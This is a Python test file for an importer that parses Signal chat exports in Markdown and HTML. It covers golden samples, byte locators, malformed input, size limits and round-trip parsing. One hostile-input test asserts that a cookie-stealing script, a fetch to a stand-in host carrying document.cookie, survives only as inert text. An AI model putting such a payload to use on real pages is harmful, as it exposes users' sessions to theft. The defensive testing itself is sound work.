"""The signal-export importer: Markdown and HTML golden samples and hostile inputs."""

from __future__ import annotations

from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from safetrail.importers.base import ImportFormatError, ImportOptions, Limits
from safetrail.importers.signal_export import SignalExportImporter, split_body
from safetrail.models.record import CallType, Direction, Record, RecordKind
from tests.importers.golden import SAMPLES, check_golden, run_importer, source_for

HERE = SAMPLES / "signal_export"
IMPORTER = SignalExportImporter()


def test_markdown_golden() -> None:
    data = check_golden(IMPORTER, HERE / "chat_markdown.md")
    assert len(data["records"]) == 11  # type: ignore[arg-type]


def test_classic_html_golden() -> None:
    check_golden(IMPORTER, HERE / "chat_classic.html")


def test_grouped_html_golden() -> None:
    check_golden(IMPORTER, HERE / "chat_grouped.html")


def test_markdown_details() -> None:
    records, warnings = run_importer(IMPORTER, HERE / "chat_markdown.md")
    assert warnings == []
    texts = [r.text for r in records]
    assert texts[2].endswith("[2024-01-01 00:00:00] Fake: this line is part of Alex's message")
    reply = records[3]
    assert reply.text == "You don't mean that 😘"
    assert dict(reply.extra) == {
        "quote": "No. Please stop messaging me.\n(really?)",
        "reactions": "Me: 👎",
    }
    assert [a.filename for a in records[4].attachments] == [
        "2024-03-31T09-05-00.000_00_IMG_0042.jpg",
        "2024-03-31T09-05-00.000_01_note_(1).pdf",
    ]
    assert all(a.missing == "referenced file, add it separately" for a in records[4].attachments)
    assert dict(records[5].extra) == {"deleted": "true"}
    assert records[6].text == "أنا أعرف أين تعيش"
    assert records[1].direction is Direction.SENT
    assert records[0].direction is Direction.RECEIVED
    assert "<script>alert(1)</script>" in records[9].text
    assert records[10].timestamp_text == "2019-05-29, 15:04"
    assert records[2].ambiguity is not None


def test_markdown_locators_cover_the_message() -> None:
    path = HERE / "chat_markdown.md"
    data = path.read_bytes()
    records, _ = run_importer(IMPORTER, path)
    for record in records:
        start, end = record.locator.byte_start, record.locator.byte_end
        assert start is not None
        assert end is not None
        chunk = data[start:end].decode("utf-8")
        assert chunk.startswith("[" + record.timestamp_text + "]")
        assert not chunk.endswith("\n")
        assert record.text.split("\n")[-1] in chunk


def test_html_locators_cover_the_div() -> None:
    for name in ("chat_classic.html", "chat_grouped.html"):
        data = (HERE / name).read_bytes()
        records, _ = run_importer(IMPORTER, HERE / name)
        for record in records:
            start, end = record.locator.byte_start, record.locator.byte_end
            assert start is not None
            assert end is not None
            assert data[start:end].startswith(b"<div class=")
            assert data[start:end].endswith(b"</div>")


def test_html_scripts_and_links_are_inert_text() -> None:
    records, _ = run_importer(IMPORTER, HERE / "chat_classic.html")
    hostile = records[3]
    assert "<script>fetch('https://example.invalid/steal?c=' + document.cookie)</script>" in (
        hostile.text
    )
    assert "click me" in hostile.text
    assert "javascript:" not in hostile.text
    assert [a.filename for a in hostile.attachments] == [
        "2024-03-31T09-05-00.000_00_IMG_0042.jpg",
        "2024-03-31T09-05-00.000_01_voice note.m4a",
    ]


def test_html_calls_grouping_and_deletion() -> None:
    records, _ = run_importer(IMPORTER, HERE / "chat_grouped.html")
    grouped = records[1]
    assert grouped.occurred_at is None
    assert grouped.sender == "Alex"
    assert grouped.ambiguity is not None
    missed = records[2]
    assert missed.kind is RecordKind.CALL
    assert missed.call_type is CallType.MISSED
    assert missed.text == "Missed voice call"
    assert records[3].text == ""
    assert dict(records[3].extra)["deleted"] == "true"
    assert records[4].call_type is CallType.OUTGOING
    assert records[4].direction is Direction.SENT


def test_thread_comes_from_the_chat_folder(tmp_path: Path) -> None:
    folder = tmp_path / "Alex Smith"
    folder.mkdir()
    path = folder / "chat.md"
    path.write_text("[2024-01-01 10:00:00] Alex Smith: hi  \n\n", "utf-8")
    (record,), _ = run_importer(IMPORTER, path)
    assert record.thread == "Alex Smith"


def test_me_option_marks_my_messages(tmp_path: Path) -> None:
    path = tmp_path / "chat.md"
    path.write_text(
        "[2024-01-01 10:00:00] Sam: hi  \n\n[2024-01-01 10:01:00] Alex: hello  \n", "utf-8"
    )
    records, _ = run_importer(IMPORTER, path, ImportOptions(me=("sam",)))
    assert [r.direction for r in records] == [Direction.SENT, Direction.RECEIVED]


def test_windows_line_endings(tmp_path: Path) -> None:
    path = tmp_path / "chat.md"
    path.write_bytes(
        b"[2024-01-01 10:00:00] Alex: one\r\ntwo  \r\n\r\n[2024-01-01 10:01:00] Me: ok  \r\n"
    )
    records, _ = run_importer(IMPORTER, path)
    assert [r.text for r in records] == ["one\ntwo", "ok"]
    assert records[0].locator.byte_end == 38


def test_text_before_the_first_message_is_a_warning(tmp_path: Path) -> None:
    path = tmp_path / "chat.md"
    path.write_text("# My notes\n[2024-01-01 10:00:00] Alex: hi  \n", "utf-8")
    records, warnings = run_importer(IMPORTER, path)
    assert len(records) == 1
    assert warnings[0].locator.line_start == 1


def test_not_an_export(tmp_path: Path) -> None:
    path = tmp_path / "notes.md"
    path.write_text("just some notes\n", "utf-8")
    with pytest.raises(ImportFormatError, match="no signal-export messages"):
        run_importer(IMPORTER, path)
    html = tmp_path / "page.html"
    html.write_text("<html><body><p>hello</p></body></html>", "utf-8")
    with pytest.raises(ImportFormatError, match="no signal-export messages"):
        run_importer(IMPORTER, html)


def test_invalid_utf8(tmp_path: Path) -> None:
    path = tmp_path / "chat.md"
    path.write_bytes(b"[2024-01-01 10:00:00] Alex: caf\xe9  \n")
    with pytest.raises(ImportFormatError) as caught:
        run_importer(IMPORTER, path)
    assert caught.value.locator.byte_start == 31
    html = tmp_path / "chat.html"
    html.write_bytes(b"<div class='msg'>\xff</div>")
    with pytest.raises(ImportFormatError, match="byte 17"):
        run_importer(IMPORTER, html)


def test_nul_bytes_skip_the_message_with_a_warning(tmp_path: Path) -> None:
    path = tmp_path / "chat.md"
    path.write_bytes(
        b"[2024-01-01 10:00:00] Alex: a\x00b  \n\n[2024-01-01 10:01:00] X: y  \n\n"
        b"[2024-01-01\x00 10:02:00] X: z  \n"
    )
    records, warnings = run_importer(IMPORTER, path)
    assert [r.text for r in records] == []
    assert [w.locator.line_start for w in warnings] == [1, 3]
    html = tmp_path / "chat.html"
    html.write_bytes(
        b"<div class='msg'><span class=sender>A</span><p class=body>x\x00y</p></div>"
        b"<div class='msg'><span class=sender>A</span><p class=body>fine</p></div>"
    )
    records, warnings = run_importer(IMPORTER, html)
    assert [r.text for r in records] == ["fine"]
    assert len(warnings) == 1


def test_a_50_mb_line_is_refused(tmp_path: Path) -> None:
    path = tmp_path / "chat.md"
    with path.open("wb") as handle:
        handle.write(b"[2024-01-01 10:00:00] Alex: ok  \n\n[2024-01-01 10:01:00] Alex: ")
        chunk = b"A" * (1 << 20)
        for _ in range(50):
            handle.write(chunk)
        handle.write(b"  \n")
    with pytest.raises(ImportFormatError) as caught:
        run_importer(IMPORTER, path)
    assert caught.value.locator.line_start == 3


def test_big_html_is_refused_before_reading(tmp_path: Path) -> None:
    path = tmp_path / "chat.html"
    path.write_bytes(b"<div class='msg'>" + b"A" * 5000 + b"</div>")
    options = ImportOptions(limits=Limits(max_json_bytes=1000))
    with pytest.raises(ImportFormatError, match="larger than"):
        run_importer(IMPORTER, path, options)


def test_truncated_html_keeps_the_part_and_warns(tmp_path: Path) -> None:
    full = (HERE / "chat_classic.html").read_text("utf-8")
    path = tmp_path / "chat.html"
    path.write_text(full[: full.index("look at this") + 20], "utf-8")
    records, warnings = run_importer(IMPORTER, path)
    assert len(records) == 4
    assert records[-1].text.startswith("look at this")
    assert "truncated" in warnings[0].message


def test_split_body_shapes() -> None:
    assert split_body(["(This message was deleted)"]).deleted
    parts = split_body(["hello  ", "(- A: 👍 -)", "(( 🐱 ))[🐱](../exported_stickers/p/1.webp)  "])
    assert (parts.text, parts.reactions, parts.sticker) == ("hello", "A: 👍", "🐱")
    assert parts.attachments == [("🐱", "../exported_stickers/p/1.webp")]
    assert split_body(["(- not a reaction -)  "]).text == "(- not a reaction -)"


def test_sniff() -> None:
    md = HERE / "chat_markdown.md"
    assert IMPORTER.sniff(source_for(md), md.read_bytes()[:4096]) >= 80
    html = HERE / "chat_classic.html"
    assert IMPORTER.sniff(source_for(html), html.read_bytes()[:8192]) >= 70
    assert IMPORTER.sniff(source_for(md), b"# heading\n") == 0


MESSAGE_TEXT = st.text(
    alphabet=st.characters(blacklist_categories=["Cs", "Zl", "Zp", "Cc"]), min_size=1, max_size=60
).filter(lambda t: t.strip() == t and not t.startswith(("(", ">", "[", "!")))


@settings(max_examples=80, deadline=None)
@given(st.lists(st.tuples(st.sampled_from(["Alex", "Me", "Sam Taylor"]), MESSAGE_TEXT), max_size=6))
def test_markdown_round_trip(messages: list[tuple[str, str]]) -> None:
    body = "".join(
        f"[2024-02-0{i % 9 + 1} 10:00:00] {sender}: {text}  \n\n"
        for i, (sender, text) in enumerate(messages)
    )
    records = _parse_text(body)
    assert [(r.sender, r.text) for r in records] == messages


def _parse_text(text: str) -> list[Record]:
    import tempfile

    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "chat.md"
        path.write_text("[2024-01-01 00:00:00] Start: start  \n\n" + text, "utf-8")
        records, _ = run_importer(IMPORTER, path)
    return records[1:]
